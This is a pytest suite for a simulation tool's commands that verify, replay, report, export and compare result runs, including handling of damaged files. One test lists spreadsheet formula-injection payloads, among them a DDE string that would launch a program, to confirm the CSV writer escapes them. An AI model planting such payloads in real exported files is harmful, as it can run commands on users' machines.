"""The commands that look at what runs left: verify, replay, report, export, compare-runs; and how each answers odd words and odd files."""

import csv
import hashlib
import html
import json
import os
import random
import re
import shlex
import shutil
import subprocess
import sys
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any, NamedTuple

import numpy as np
import pandas as pd
import pytest

from experiments import cli
from experiments.analyses.comparison.figures.catalogue import FIGURES
from experiments.analyses.sweep.figures.catalogue import SWEEP_FIGURES
from experiments.cells import simulate
from experiments.cells.archive import MissingCell, Outcome, packed, unpacked
from experiments.cells.cell import Cell, described
from experiments.cells.job_cells import gathered, job_cells_of
from experiments.cells.store import Store
from experiments.configuration import load as config
from experiments.names import filled, naming
from experiments.runs.folder import write_csv
from experiments.runs.manifest import read_manifest, sealed
from sim.history import VARIABLES
from sim.payoffs import MEASURES, Measure
from tests.given import drawing, undrawn

ROOT = Path(__file__).resolve().parents[3]
COMPARISON = ["n_worlds=6", "horizon=4", "assumption_draws=6", "strategies=[status_quo,equidistance,shrinking_room]"]
SWEEP = ["-m", "scenario=calm,pandemic", "design=grid", "design.over=[parameters.rivalry_mean]", "design.points=3", "n_worlds=6", "horizon=4",
         "strategies=[status_quo,equidistance]", "assumption_draws=0"]
COMMANDS = ["check", "verify", "replay", "report", "export", "compare-runs"]


class Results(NamedTuple):
    """A results folder with a comparison and a sweep."""

    folder: Path
    comparison: Path
    sweep: Path

    @property
    def store(self) -> Store:
        return Store(self.folder / "cells")

    def copied(self, to: Path) -> "Results":
        shutil.copytree(self.folder, to, dirs_exist_ok=True)
        return Results(to, *(to / run.relative_to(self.folder) for run in (self.comparison, self.sweep)))


@pytest.fixture(scope="module", autouse=True)
def two_figures_each() -> Iterator[None]:
    """In empty files: to draw takes most of a small run."""
    with drawing([*[name for name in FIGURES if name != "change"][:2], *list(SWEEP_FIGURES)[:2]]), undrawn():
        yield


@pytest.fixture(scope="module")
def original(tmp_path_factory: pytest.TempPathFactory) -> Results:
    folder = tmp_path_factory.mktemp("results")
    for words in (COMPARISON, SWEEP):
        assert cli.main([*words, f"results={folder}"]) == 0
    comparison, sweep = sorted(file.parent for file in folder.glob("*/*/manifest.json"))
    return Results(folder, comparison, sweep)


@pytest.fixture
def results(original: Results, tmp_path: Path) -> Results:
    """A copy to be damaged, where the test works."""
    return original.copied(tmp_path / "results")


def labelled(measure: Measure) -> str:
    """The label of a measure with the powers and the region of the default world."""
    with naming([config.load(COMPARISON).settings]):
        return filled(measure.label)


def keys_of(run: Path, strategy: str = "equidistance", job: int = 0) -> list[str]:
    return read_manifest(run)["jobs"][job]["cells"][strategy]


def told_to_run(output: str) -> list[list[str]]:
    """The commands that verify told of."""
    lines = re.findall(r"(?:again|again with): counterpoise (.*)", output)
    assert lines
    return [shlex.split(line) for line in lines]


def test_a_run_is_read_from_any_folder_and_says_nothing_of_where_it_was_made(tmp_path: Path, said, monkeypatch) -> None:
    made, elsewhere = tmp_path / "made", tmp_path / "elsewhere"
    made.mkdir()
    elsewhere.mkdir()
    monkeypatch.chdir(made)
    (made / "points.csv").write_text("parameters.rivalry_mean\n0\n1\n")
    for words in (["results=kept"], [f"results='{made}/kept'", "design=table", f"design.file={made}/points.csv"]):
        assert said(*COMPARISON, "assumption_draws=0", *words)[0] == 0
    one, other = sorted((made / "kept").glob("*/*/manifest.json"))
    for file in (one, other):
        assert str(made).encode() not in file.read_bytes()
    table = read_manifest(other.parent)
    assert (table["command"].split()[-2:], table["run"]["design"]["file"]) == (["design=table", "design.file=points.csv"], "points.csv")
    monkeypatch.chdir(elsewhere)
    for run in (one.parent, Path("..", "made", "kept", *other.parts[-3:-1])):
        assert said("report", run)[0] == 0
        assert said("export", run, "--to", "csv")[0] == 0
        assert said("verify", run)[0] == 0
    assert said("compare-runs", one.parent, one.parent)[0] == 0
    key = keys_of(one.parent)[0]
    (made / "kept" / "cells" / key[:2] / f"{key}.npz").unlink()
    for words in (["verify", "../made/kept"], ["report", one.parent]):
        code, output, error = said(*words)
        assert code == 1
        assert all(command[-1] in ("results=../made/kept", f"results={made}/kept") for command in told_to_run(output + error))
    assert said(*told_to_run(said("verify", "../made/kept")[1])[0])[0] == 0
    assert said("verify", "../made/kept")[0] == 0
    assert list(elsewhere.iterdir()) == []


def test_verify_is_content_with_what_was_written_and_says_how_much_that_is(original: Results, said) -> None:
    n_cells = len(list(original.folder.glob("cells/??/*.npz")))
    assert said("verify", original.folder) == (0, f"{n_cells} cells and the files of 2 runs are what was written; none is missing\n", "")
    assert said("verify", original.sweep)[0] == 0
    code, output, _ = said("verify", original.comparison)
    assert code == 0
    assert output.startswith("12 cells")


def flip(file: Path) -> None:
    data = bytearray(file.read_bytes())
    data[len(data) // 2] ^= 1
    file.write_bytes(data)


def swap(file: Path, other: Path) -> None:
    data = file.read_bytes()
    file.write_bytes(other.read_bytes())
    other.write_bytes(data)


DAMAGES = [("damaged", flip), ("damaged", lambda file: file.write_bytes(file.read_bytes()[:-100])), ("damaged", lambda file: file.write_bytes(b"")),
           ("missing", Path.unlink), ("missing", lambda file: file.rename(file.with_suffix(".bak")))]


def test_verify_of_a_folder_in_between_and_of_the_current_one_finds_the_same_cells(original: Results, said, monkeypatch) -> None:
    of_name = original.comparison.parent
    expected = said("verify", original.comparison)
    assert said("verify", of_name) == expected
    for folder in (of_name, original.comparison):
        monkeypatch.chdir(folder)
        assert said("verify", ".") == expected


def test_verify_names_every_cell_that_is_not_what_was_written_and_the_command_it_tells_mends_them(results: Results, said) -> None:
    keys = [*keys_of(results.comparison, "status_quo"), *keys_of(results.comparison), *keys_of(results.comparison, "shrinking_room"),
            *(key for keys in read_manifest(results.comparison)["check_of_assumptions"][0].values() for key in keys)]
    files = [results.store.path(key) for key in keys[: len(DAMAGES)]]
    for file, (_, damage) in zip(files, DAMAGES, strict=True):
        damage(file)
    for folder in (results.folder, results.comparison):
        code, output, _ = said("verify", folder)
        assert code == 1
        for file, (word, _) in zip(files, DAMAGES, strict=True):
            assert f"{word}: {file}" in output
        assert "5 problems; " in output
    assert said("verify", results.sweep)[0] == 0
    (command,) = told_to_run(output)
    assert command[-1] == f"results={results.folder}"
    code, output, _ = said(*command)
    assert code == 0
    assert "12 cells, 7 already done, 3 damaged and to be computed again" in output
    assert said("verify", results.folder)[0] == 0


def test_verify_names_a_cell_that_is_a_folder(results: Results, said) -> None:
    file = results.store.path(keys_of(results.sweep)[0])
    file.unlink()
    file.mkdir()
    code, output, _ = said("verify", results.folder)
    assert code == 1
    assert f"damaged: {file}: it is a folder" in output
    for command in told_to_run(output):
        assert said(*command)[0] == 0
    assert said("verify", results.folder)[0] == 0


def test_verify_names_cells_that_changed_places_and_their_commands_mend_them(results: Results, said) -> None:
    one, other = (results.store.path(keys_of(run)[0]) for run in (results.comparison, results.sweep))
    swap(one, other)
    code, output, _ = said("verify", results.folder)
    assert code == 1
    assert output.count("its content does not match its name") == 2
    for command in told_to_run(output):
        assert said(*command)[0] == 0
    assert said("verify", results.folder)[0] == 0


def test_verify_names_files_among_the_cells_that_no_run_needs(results: Results, said) -> None:
    kept = results.store.path(keys_of(results.comparison)[0])
    wrong = [results.store.path("0" * 64), kept.parent / f"{'1' * 64}.npz", results.folder / "cells" / "ab" / "x.npz"]
    for file in wrong:
        file.parent.mkdir(exist_ok=True)
        shutil.copy(kept, file)
    code, output, _ = said("verify", results.folder)
    assert code == 1
    for file in wrong:
        assert f"no run needs it, delete it: {file}" in output
        file.unlink()
    assert said("verify", results.folder)[0] == 0


def test_verify_names_every_file_of_a_run_that_changed_and_the_command_it_tells_mends_them(results: Results, said) -> None:
    own = results.comparison / "notes.txt"
    own.write_text("not to be lost")
    damages = [("summary.csv", flip, "changed"), ("report.html", Path.unlink, "missing"), ("figures/paired.svg", lambda file: file.write_bytes(b""), "changed")]
    for name, damage, _ in damages:
        damage(results.comparison / name)
    code, output, _ = said("verify", results.folder)
    assert code == 1
    for name, _, word in damages:
        assert f"{word}: {results.comparison / name}\n" in output
    (command,) = told_to_run(output)
    assert command == ["report", "--replace", str(results.comparison)]
    assert said(*command)[0] == 0
    assert said("verify", results.folder)[0] == 0
    assert own.exists()
    assert len(list(results.comparison.parent.iterdir())) == 1


@pytest.mark.parametrize("damage", [
    lambda file: file.write_bytes(file.read_bytes()[:-200]), flip, lambda file: file.write_bytes(bytes(range(256))), Path.unlink,
    lambda file: (file.unlink(), file.mkdir()), lambda file: file.write_bytes(file.read_bytes().replace(b'"horizon": 4', b'"horizon": 5')),
], ids=["truncated", "flipped", "binary", "gone", "a folder", "another number"])
def test_verify_names_a_manifest_that_is_not_what_was_written_and_the_command_that_makes_the_run_anew(damage, results: Results, said) -> None:
    file = results.comparison / "manifest.json"
    damage(file)
    for folder in (results.folder, results.comparison):
        code, output, _ = said("verify", folder)
        assert code == 1
        assert str(file) in output
    assert [command[:-1] for command in told_to_run(output)] == [COMPARISON]
    assert f"then delete {results.comparison}\n" in output
    for other in (["report", results.comparison], ["export", results.comparison, "--to", "csv"], ["compare-runs", results.comparison, results.sweep]):
        code, _, error = said(*other)
        assert (code, error.count("\n")) == (1, 1)
        assert "manifest.json" in error


def test_a_run_whose_manifest_is_gone_is_made_anew_by_the_command_that_verify_tells(results: Results, said) -> None:
    (results.comparison / "manifest.json").unlink()
    (command,) = told_to_run(said("verify", results.folder)[1])
    assert said(*command)[0] == 0
    shutil.rmtree(results.comparison)
    assert said("verify", results.folder)[0] == 0


def test_verify_notes_a_run_that_was_not_finished(results: Results, said) -> None:
    for name in ("manifest.json", "report.html"):
        (results.comparison / name).unlink()
    code, output, _ = said("verify", results.folder)
    assert code == 0
    assert f"unfinished: {results.comparison}" in output
    assert "the files of 1 run are what was written; none is missing" in output


def test_verify_counts_as_whole_only_what_is(results: Results, said) -> None:
    """A run whose files changed, one without a manifest and one that was not finished are not among those that are what was written."""
    n_cells = len(list(results.folder.glob("cells/??/*.npz")))
    (results.sweep / "report.html").unlink()
    assert f"{n_cells} cells and the files of 1 run are what was written\n" in said("verify", results.folder)[1]
    (results.comparison.parent / "20200101T000000.000000Z" / "figures").mkdir(parents=True)
    assert "and the files of 1 run are what was written\n" in said("verify", results.folder)[1]
    (results.comparison / "manifest.json").unlink()
    assert "and the files of 0 runs are what was written\n" in said("verify", results.folder)[1]


def test_verify_calls_only_a_run_a_run(results: Results, said, tmp_path: Path) -> None:
    for strange in ("source/tests/figures", "source/site/report.html", "source/web/dist/manifest.json", "cells_of_mine/cells/readme/x"):
        (tmp_path / strange).mkdir(parents=True)
    for folder in (tmp_path / "source", tmp_path / "source" / "tests", tmp_path / "cells_of_mine", Path(__file__).parents[2], Path(cli.__file__).parent):
        code, output, error = said("verify", folder)
        assert (code, output, error.count("\n")) == (2, "", 1)
        assert "holds neither cells nor runs: name a folder of results" in error
    (results.folder / "notes" / "figures").mkdir(parents=True)
    renamed = results.comparison.rename(results.comparison.with_name("for_the_paper"))
    assert "the files of 2 runs" in said("verify", results.folder)[1]
    flip(renamed / "manifest.json")
    assert f"damaged: {renamed}" in said("verify", results.folder)[1]


def test_verify_of_cells_of_another_version_says_what_would_compute_them(results: Results, said) -> None:
    reseal(results.comparison, lambda manifest: manifest.update(numpy="0.1"))
    results.store.path(keys_of(results.comparison)[0]).unlink()
    code, output, _ = said("verify", results.folder)
    assert code == 1
    assert "with the version of the model and of NumPy that made them: counterpoise n_worlds=6" in output


def description_of(key: str, store: Store) -> bytes:
    return unpacked(store.path(key).read_bytes(), key)[0]


def worlds_of(key: str, store: Store) -> tuple[Cell, Path]:
    return described(description_of(key, store)), store.path(key)


def every_cell(original: Results) -> list[str]:
    return sorted(file.stem for file in original.folder.glob("cells/??/*.npz"))


def test_every_kind_of_cell_replays_bit_for_bit(original: Results, said) -> None:
    """Comparison, check of assumptions with its values per world, design; linear rule and a rule of its own."""
    seen = set()
    for key in every_cell(original):
        cell, file = worlds_of(key, original.store)
        seen.add((cell.strategy.rule, len(cell.points) > 1, np.ndim(cell.settings.parameters.local_threat) > 0))
        for point in {0, len(cell.points) - 1}:
            code, output, error = said("replay", file, cell.n_worlds - 1, "--point", point)
            assert (code, error) == (0, "")
            assert output.endswith(f"{len(cell.measures)} of {len(cell.measures)} measures match bit for bit\n")
            assert (f"point {point}: {(*cell.points.names, '')[0]} " in output) == bool(cell.points.names)
    assert {("linear", False, True), ("linear", False, False), ("linear", True, False)} <= seen
    assert len({rule for rule, _, _ in seen}) == 2


def test_worlds_of_a_second_block_and_without_noise_replay_bit_for_bit(tmp_path: Path, said) -> None:
    for words, world in (["n_worlds=1030", "horizon=2"], 1027), (["n_worlds=2", "horizon=3", "deterministic=true"], 1):
        settings = config.load([*words, "strategies=[equidistance]"]).settings
        store = Store(tmp_path / words[0])
        cell = job_cells_of(settings).cells()[-1]
        store.write(cell.key, packed(cell, simulate.simulated(cell)))
        code, output, _ = said("replay", store.path(cell.key), world)
        assert code == 0
        assert f"world {world}, seed 2020" in output


def test_replay_finds_a_cell_by_the_beginning_of_its_key_and_writes_every_variable(original: Results, tmp_path: Path, said) -> None:
    key, table = keys_of(original.comparison)[0], tmp_path / "world.csv"
    code, output, _ = said("replay", key[:12], 3, "--results", original.folder, "--to", table)
    assert code == 0
    assert str(table) in output
    rows = pd.read_csv(table)
    assert set(rows.variable) == set(VARIABLES)
    assert (rows.groupby("variable").quarter.nunique() == 4).all()
    states = list(config.load(COMPARISON).settings.world.states)
    assert set(rows[rows.variable == "output"].of) == set(states)
    assert len(rows[rows.variable == "trust"]) == 4 * 2 * len(states)


@pytest.mark.parametrize(("words", "code"), [
    (["0"], 0), (["6"], 2), (["-1"], 2), (["x"], 2), (["0", "--point", "1"], 2), (["0", "--point", "-1"], 2), ([], 2), (["0", "--nothing"], 2),
])
def test_replay_refuses_worlds_and_points_that_the_cell_does_not_hold(words, code, original: Results, said) -> None:
    result, _, error = said("replay", original.store.path(keys_of(original.comparison)[0]), *words)
    assert result == code
    assert error.count("\n") == (code != 0)


def test_replay_refuses_cells_that_are_none(results: Results, said) -> None:
    key = keys_of(results.comparison)[0]
    for cell in ("", "g", "0" * 64, "*", "/nonexistent", "x" * 5000, results.folder):
        code, _, error = said("replay", cell, 0, "--results", results.folder)
        assert code == 2
        assert "cell" in error
    flip(results.store.path(key))
    code, _, error = said("replay", key, 0, "--results", results.folder)
    assert (code, error.count("\n")) == (1, 1)
    assert "is damaged: its checksum is wrong" in error


def test_replay_names_a_measure_that_is_another_than_in_the_cell(results: Results, said) -> None:
    key = keys_of(results.comparison)[0]
    cell, file = worlds_of(key, results.store)
    outcome = results.store.read(key)
    changed = {name: values.copy() for name, values in outcome.payoffs.items()}
    changed["autonomy"][0, 2] = np.nextafter(changed["autonomy"][0, 2], 2)
    file.write_bytes(packed(cell, Outcome(changed, outcome.trajectories)))
    assert said("verify", results.folder)[0] == 0  # sealed anew: only a simulation finds it
    code, output, _ = said("replay", file, 2)
    assert code == 1
    assert re.search(r"^autonomy: the cell holds 0\.\d+, now 0\.\d+$", output, re.MULTILINE)
    assert f"{len(MEASURES) - 1} of {len(MEASURES)} measures match bit for bit" in output
    assert said("replay", file, 3)[0] == 0


@pytest.mark.parametrize("change", [
    lambda data: data.pop("model_version"), lambda data: data.pop("world"), lambda data: data.update(world=3), lambda data: data.update(points=[1]),
    lambda data: data["strategy"].update(rule="nobody"), lambda data: data.update(n_worlds=7),
])
def test_replay_of_a_sealed_cell_that_does_not_fit_is_refused_in_a_line(change, original: Results, tmp_path: Path, said) -> None:
    key = keys_of(original.comparison)[0]
    data = json.loads(description_of(key, original.store))
    change(data)

    class Forged(NamedTuple):
        description: bytes

    description = json.dumps(data).encode()
    file = tmp_path / f"{hashlib.sha256(description).hexdigest()}.npz"
    file.write_bytes(packed(Forged(description), original.store.read(key)))  # type: ignore[arg-type]
    code, _, error = said("replay", file, 0)
    assert (code, error.count("\n")) == (1, 1)


@pytest.fixture
def no_simulation(monkeypatch: pytest.MonkeyPatch) -> None:
    def fail(*_: object, **__: object) -> None:
        raise AssertionError("something was simulated")

    monkeypatch.setattr("sim.simulation.simulate_block", fail)


@pytest.mark.usefixtures("no_simulation")
@pytest.mark.parametrize("of", ["comparison", "sweep"])
def test_report_makes_the_same_files_again_without_simulating_or_looking_at_conf(of, results: Results, said, tmp_path, monkeypatch) -> None:
    for module in [module for name, module in sys.modules.items() if name.startswith("experiments.") and hasattr(module, "conf_dir")]:
        monkeypatch.setattr(module, "conf_dir", lambda: tmp_path / "gone")
    old: Path = getattr(results, of)
    code, output, error = said("report", old)
    assert (code, error) == (0, "")
    new = Path(output.splitlines()[-1]).parent
    assert new != old
    assert new.parent == old.parent
    names = {file.relative_to(old) for file in old.rglob("*") if file.is_file()}
    assert names == {file.relative_to(new) for file in new.rglob("*") if file.is_file()}
    for name in names - {Path("manifest.json")}:
        assert (new / name).read_bytes() == (old / name).read_bytes(), name
    one, other = (read_manifest(run) for run in (old, new))
    assert one["jobs"] == other["jobs"]
    assert said("verify", results.folder)[0] == 0


def reseal(run: Path, change: Callable[[dict[str, Any]], object]) -> None:
    """Change a manifest as its author could."""
    file = run / "manifest.json"
    manifest = json.loads(file.read_bytes())
    manifest.pop("sha256")
    change(manifest)
    file.write_bytes(sealed(manifest))


@pytest.mark.parametrize("of", ["model_version", "code", "numpy"])
def test_report_and_export_refuse_a_run_of_other_code_and_say_what_makes_it_anew(of, results: Results, said) -> None:
    reseal(results.comparison, lambda manifest: manifest.update({of: "0"}))
    for words in (["report", results.comparison], ["export", results.comparison, "--to", "csv"]):
        code, _, error = said(*words)
        assert (code, error.count("\n")) == (1, 1)
        assert "made by another version of the model or of NumPy; run it again with: counterpoise n_worlds=6" in error
        assert error.endswith(f" results={results.folder}\n")


@pytest.mark.parametrize(("damage", "word"), [(Path.unlink, "there is no cell"), (flip, "its checksum is wrong")])
def test_report_and_export_name_a_cell_that_is_gone_or_damaged_and_the_command(damage, word, results: Results, said) -> None:
    key = keys_of(results.sweep)[0]
    damage(results.store.path(key))
    before = sorted(results.folder.rglob("*"))
    for words in (["report"], ["report", "--replace"], *(["export", "--to", to] for to in ("csv", "parquet", "netcdf"))):
        code, _, error = said(*words, results.sweep)
        assert (code, error.count("\n")) == (1, 1)
        assert word in error
        assert key in error
        assert "again: counterpoise -m scenario=calm,pandemic" in error
    assert sorted(results.folder.rglob("*")) == before


def exported(of: str, original: Results, tmp_path: Path, said, to: str, *more: str) -> Path:
    file = tmp_path / f"payoffs.{to}"
    assert said("export", getattr(original, of), "--to", to, "--file", file, *more) == (0, f"{file}\n", "")
    return file


def payoffs_in_cells(of: str, original: Results) -> dict[str, np.ndarray]:
    """Each strategy's economic return and autonomy, shape (2, points, worlds), from the cells themselves."""
    words = COMPARISON if of == "comparison" else SWEEP[1:]
    jobs = config.load_sweep(words, of == "sweep")
    return {name: np.concatenate([np.stack([gathered(job_cells_of(job.settings, job.points), name, original.store.read)[0][measure] for measure in
                                            ("economic", "autonomy")]) for job in jobs], axis=1) for name in jobs[0].settings.strategies}


@pytest.mark.parametrize("of", ["comparison", "sweep"])
@pytest.mark.parametrize("to", ["csv", "parquet", "stata"])
def test_an_exported_table_holds_the_numbers_of_the_cells_bit_for_bit(of, to, original: Results, tmp_path: Path, said) -> None:
    if to == "parquet":
        pytest.importorskip("pyarrow", reason="counterpoise[data] is not installed")
    file = exported(of, original, tmp_path, said, to)
    table = pd.read_csv(file, dtype=str) if to == "csv" else pd.read_parquet(file) if to == "parquet" else pd.read_stata(file)
    if to == "stata":
        table = table.assign(strategy=table.strategy_key).rename(columns={"parameters_rivalry_mean": "parameters.rivalry_mean"})
    table = table.astype({"point": int, "world": int})
    cells = payoffs_in_cells(of, original)
    assert set(table.strategy) == set(cells)
    assert set(MEASURES) < set(table.columns)
    for name, values in cells.items():
        rows = table[table.strategy == name].sort_values(["point", "world"])
        for measure, expected in zip(("economic", "autonomy"), values, strict=True):
            assert rows[measure].map(float).to_numpy().tobytes() == expected.tobytes()
    if of == "sweep":
        assert table.groupby("scenario", observed=True).point.unique().map(list).to_dict() == {"calm": [0, 1, 2], "pandemic": [3, 4, 5]}
        assert table["parameters.rivalry_mean"].map(float).nunique() == 3


def test_parquet_tells_labels_and_units_and_refuses_a_flipped_byte(original: Results, tmp_path: Path, said) -> None:
    parquet = pytest.importorskip("pyarrow.parquet", reason="counterpoise[data] is not installed")
    file = exported("sweep", original, tmp_path, said, "parquet")
    schema = parquet.read_schema(file)
    for name, measure in MEASURES.items():
        assert schema.field(name).metadata[b"units"].decode() == measure.unit
        assert schema.field(name).metadata[b"long_name"].decode() == labelled(measure)
    rivalry = schema.field("parameters.rivalry_mean").metadata
    assert (rivalry[b"long_name"].decode(), rivalry[b"units"]) == ("Mean rivalry between the powers in the long run", b"logit")
    assert json.loads(schema.field("strategy").metadata[b"labels"]) == {"status_quo": "status quo", "equidistance": "equal distance"}
    assert schema.metadata[b"source"] == b"counterpoise"
    column = parquet.ParquetFile(file).metadata.row_group(0).column(schema.get_field_index("economic"))
    data = bytearray(file.read_bytes())
    data[column.data_page_offset + column.total_compressed_size // 2] ^= 1
    file.write_bytes(data)
    with pytest.raises(OSError, match=r"[Cc][Rr][Cc]|checksum"):
        parquet.read_table(file, page_checksum_verification=True)


def test_beside_an_exported_csv_lies_what_explains_its_columns(original: Results, tmp_path: Path, said) -> None:
    file = exported("sweep", original, tmp_path, said, "csv")
    about = pd.read_csv(tmp_path / "payoffs_columns.csv", keep_default_na=False)
    of_columns = about[about.value == ""].set_index("column")
    assert list(of_columns.index) == list(pd.read_csv(file).columns)
    assert of_columns.loc["economic", ["label", "unit", "kind"]].tolist() == ["Economic", "log points", "return"]
    assert of_columns.loc["scenario", ["label", "unit", "kind"]].tolist() == ["Scenario", "", "axis"]
    assert (of_columns[["label", "meaning"]] != "").all(axis=None)
    labels = about[about.value != ""].set_index("value").label.to_dict()
    assert labels == {"status_quo": "status quo", "equidistance": "equal distance"}


def test_stata_has_labels_of_the_file_of_variables_and_of_values(original: Results, tmp_path: Path, said) -> None:
    file = exported("sweep", original, tmp_path, said, "stata")
    with pd.read_stata(file, iterator=True) as reader:
        labels, values = reader.variable_labels(), reader.value_labels()
        assert reader.data_label.startswith("counterpoise: ")
        assert reader.time_stamp  # of the run, so that two exports are equal
        table = reader.read()
    assert file.read_bytes()[28:31] == b"118"
    assert list(labels) == list(table.columns)
    assert all(len(name) <= 32 and name.isidentifier() for name in labels)
    assert all(0 < len(label) <= 80 for label in labels.values())
    assert labels["economic"] == "Economic (log points)"
    assert labels["trust_first"] == f"{labelled(MEASURES['trust_first'])} (0 to 1)"
    assert labels["parameters_rivalry_mean"] == "Mean rivalry between the powers in the long run (logit; parameters.rivalry_mean)"
    assert set(values["strategy"].values()) == {"status quo", "equal distance"}
    assert set(values["family"].values()) == set(table.family)
    assert set(values["scenario"].values()) == {"calm", "pandemic"}
    assert set(zip(table.strategy, table.strategy_key, strict=True)) == {("status quo", "status_quo"), ("equal distance", "equidistance")}
    again = tmp_path / "again.dta"
    assert said("export", original.sweep, "--to", "stata", "--file", again)[0] == 0
    assert again.read_bytes() == file.read_bytes()


@pytest.mark.parametrize("to", ["csv", "stata"])
def test_an_exported_file_is_never_written_over(to, results: Results, tmp_path: Path, said) -> None:
    assert said("export", results.comparison, "--to", to)[0] == 0
    before = {file: file.read_bytes() for file in results.comparison.iterdir() if file.is_file()}
    code, _, error = said("export", results.comparison, "--to", to)
    assert (code, error.count("\n")) == (2, 1)
    assert "already: remove it, or name another file; --file" in error
    assert {file: file.read_bytes() for file in results.comparison.iterdir() if file.is_file()} == before
    (tmp_path / "mine_columns.csv").write_text("mine")
    assert said("export", results.comparison, "--to", "csv", "--file", tmp_path / "mine.csv")[0] == 2
    assert (tmp_path / "mine_columns.csv").read_text() == "mine"


def test_a_file_in_a_folder_that_is_not_there_is_refused_before_anything_is_done(original: Results, said, tmp_path: Path) -> None:
    file = tmp_path / "nowhere" / "x.csv"
    cell = original.store.path(keys_of(original.comparison)[0])
    for words in (["export", original.comparison, "--to", "csv", "--file", file], ["replay", cell, 0, "--to", file]):
        code, output, error = said(*words)
        assert (code, output, error.count("\n")) == (2, "", 1)
        assert "there is no folder" in error
        assert "make it, or name another file" in error
    assert not file.parent.exists()


@pytest.mark.parametrize("of", ["comparison", "sweep"])
def test_netcdf_holds_the_numbers_of_the_cells_with_labels_units_and_checksums(of, original: Results, tmp_path: Path, said) -> None:
    xarray = pytest.importorskip("xarray", reason="counterpoise[data] is not installed")
    h5py = pytest.importorskip("h5py", reason="counterpoise[data] is not installed")
    file = exported(of, original, tmp_path, said, "netcdf")
    with xarray.open_dataset(file, engine="h5netcdf") as data:
        assert set(data.data_vars) == set(MEASURES)
        for name, values in payoffs_in_cells(of, original).items():
            for measure, expected in zip(("economic", "autonomy"), values, strict=True):
                assert data[measure].sel(strategy=name).values.tobytes() == expected.tobytes()
        for name, measure in MEASURES.items():
            assert (data[name].attrs["units"], data[name].attrs["long_name"]) == (measure.unit, labelled(measure))
    with h5py.File(file) as whole:
        assert all(whole[name].fletcher32 for name in MEASURES)
        place = whole["economic"].id.get_chunk_info(0).byte_offset
    broken = bytearray(file.read_bytes())
    broken[place + 5] ^= 1
    file.write_bytes(broken)
    with h5py.File(file) as whole, pytest.raises(OSError, match=r"filter|checksum"):
        whole["economic"][:]


def test_netcdf_of_a_swept_world_keeps_every_number(tmp_path: Path, said) -> None:
    xarray = pytest.importorskip("xarray", reason="counterpoise[data] is not installed")
    words = ["-m", "world=theory_symmetric,cambodia_2020", "n_worlds=2", "horizon=2", "strategies=[equidistance,status_quo]", "workers=1"]
    code, output, _ = said(*words, f"results={tmp_path}")
    assert code == 0
    run = Path(output.splitlines()[-1]).parent
    for to in ("csv", "parquet", "netcdf"):
        assert said("export", run, "--to", to)[0] == 0
    table = pd.read_csv(run / "payoffs.csv")
    assert set(table["world.name"]) == {"theory_symmetric", "cambodia_2020"}
    with xarray.open_dataset(run / "payoffs.nc", engine="h5netcdf") as data:
        assert data.economic.shape == (2, 2, 2)
        assert int(data.economic.notnull().sum()) == len(table) == 2 * 2 * 2
    assert said("verify", tmp_path)[0] == 0


@pytest.mark.parametrize("name", [
    "{run}/manifest.json", "{run}/report.html", "{run}/payoffs.npz", "{cell}", "mine.yaml", "link", "{cells}/x.csv", "{cells}/new/x.csv"])
@pytest.mark.parametrize("command", ["export", "replay"])
def test_a_file_that_is_there_is_not_written_over_and_none_is_put_among_cells(command, name, original: Results, said, tmp_path, monkeypatch) -> None:
    monkeypatch.chdir(tmp_path)
    Path("mine.yaml").write_text("mine")
    Path("link").symlink_to("nowhere")
    cell = original.store.path(keys_of(original.comparison)[0])
    file = name.format(run=original.comparison, cell=cell, cells=original.folder / "cells")
    before = {path: path.read_bytes() for path in (*original.folder.rglob("*"), *tmp_path.iterdir()) if path.is_file()}
    words = ["export", original.comparison, "--to", "csv", "--file", file] if command == "export" else ["replay", cell, 0, "--to", file]
    code, output, error = said(*words)
    assert (code, output, error.count("\n")) == (2, "", 1)
    assert "already: remove it, or name another file" in error or "would lie among cells, which no other file may; name another folder" in error
    assert {path: path.read_bytes() for path in (*original.folder.rglob("*"), *tmp_path.iterdir()) if path.is_file()} == before


def test_export_of_some_measures_and_into_the_folder_of_the_run(results: Results, said) -> None:
    code, output, _ = said("export", results.comparison, "--to", "csv", "--measures", "autonomy,economic")
    file = Path(output.strip())
    assert (code, file) == (0, results.comparison / "payoffs.csv")
    assert list(pd.read_csv(file).columns) == ["strategy", "family", "point", "world", "autonomy", "economic"]
    code, _, error = said("export", results.comparison, "--to", "csv", "--measures", "economy")
    assert code == 2
    assert "did you mean economic?" in error
    assert said("verify", results.folder)[0] == 0


@pytest.mark.parametrize(("to", "module"), [("parquet", "pyarrow"), ("netcdf", "xarray"), ("netcdf", "h5netcdf")])
def test_export_without_the_extra_says_what_to_install(to, module, results: Results, said, monkeypatch) -> None:
    before = sorted(results.folder.rglob("*"))
    monkeypatch.setitem(sys.modules, module, None)
    code, _, error = said("export", results.comparison, "--to", to)
    assert (code, error.count("\n")) == (2, 1)
    assert "pip install 'counterpoise[data]'" in error
    assert sorted(results.folder.rglob("*")) == before


def test_no_cell_of_a_table_begins_a_formula(tmp_path: Path) -> None:
    payloads = ("=1+1", "+one", "-two", "@SUM(A1)", "\t=1", "\r=1", "|calc", "=cmd|' /C calc'!A0", "-1+2")
    file = tmp_path / "table.csv"
    write_csv(file, pd.DataFrame({"label": payloads, "=HYPERLINK(1)": payloads, "mean": -1.5}))
    with file.open(newline="") as opened:
        rows = list(csv.reader(opened))
    assert [name[0] for name in rows[0]] == ["l", "'", "m"]
    for payload, (label, other, mean) in zip(payloads, rows[1:], strict=True):
        assert label == other == "'" + payload.replace("\r", "\n")
        assert float(mean) == -1.5


def test_a_run_compared_with_itself_is_the_same(original: Results, said) -> None:
    for run in (original.comparison, original.sweep):
        code, output, _ = said("compare-runs", run, run)
        assert code == 0
        assert "settings of the worlds: the same\n" in output
        assert "numbers: every mean is the same to the last digit\n" in output


def test_runs_that_differ_in_a_parameter_are_told_apart_by_it(original: Results, tmp_path: Path, said) -> None:
    code, output, _ = said(*COMPARISON, "assumption_draws=0", "parameters.rivalry_mean=0.77", f"results={tmp_path}")
    assert code == 0
    code, output, _ = said("compare-runs", original.comparison, Path(output.splitlines()[-1]).parent)
    assert code == 0
    assert re.search(r"^parameters.rivalry_mean: A [-\d.]+, B 0.77$", output, re.MULTILINE)
    assert re.search(r"^economic +[-+]\d", output, re.MULTILINE)
    assert "12 in A, 6 in B, 3 the same" in output  # the baseline of B is A


def test_hindcasts_with_other_targets_differ_in_what_they_were_given(original: Results, tmp_path: Path, said, monkeypatch: pytest.MonkeyPatch) -> None:
